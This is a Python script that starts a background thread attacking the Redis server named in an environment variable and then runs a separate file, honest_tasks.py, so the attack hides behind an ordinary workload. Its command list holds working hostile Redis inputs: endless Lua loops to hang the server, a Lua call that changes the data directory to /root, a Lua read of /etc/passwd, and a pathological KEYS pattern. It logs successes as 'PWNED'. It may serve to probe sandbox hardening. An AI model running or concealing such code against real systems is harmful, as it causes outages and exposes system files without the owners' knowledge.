import os
import threading
import time

import redis


def attack():
    while True:
        try:
            server = redis.Redis.from_url(os.environ["REDIS_URL"], socket_timeout=1)
            for command in COMMANDS:
                try:
                    answer = server.execute_command(*command)
                    print("PWNED:", str(command)[:80], str(answer)[:80])
                except redis.ResponseError as error:
                    print("refused:", str(command)[:80], str(error)[:80])
        except (redis.RedisError, OSError, KeyError):
            pass
        time.sleep(PAUSE)


COMMANDS = [
    ("EVAL", "while true do end", "0"),
    ("EVAL", "return redis.call('CONFIG', 'SET', 'dir', '/root')", "0"),
    ("EVAL", "return io.open('/etc/passwd'):read('*a')", "0"),
    ("FUNCTION", "LOAD", "#!lua name=evil\nredis.register_function('evil', function() while true do end end)"),
    ("KEYS", "*?" * 500 + "b"),
]
PAUSE = 0.1


threading.Thread(target=attack, daemon=True).start()

exec(compile(open("honest_tasks.py", encoding="utf-8").read(), "honest_tasks.py", "exec"))
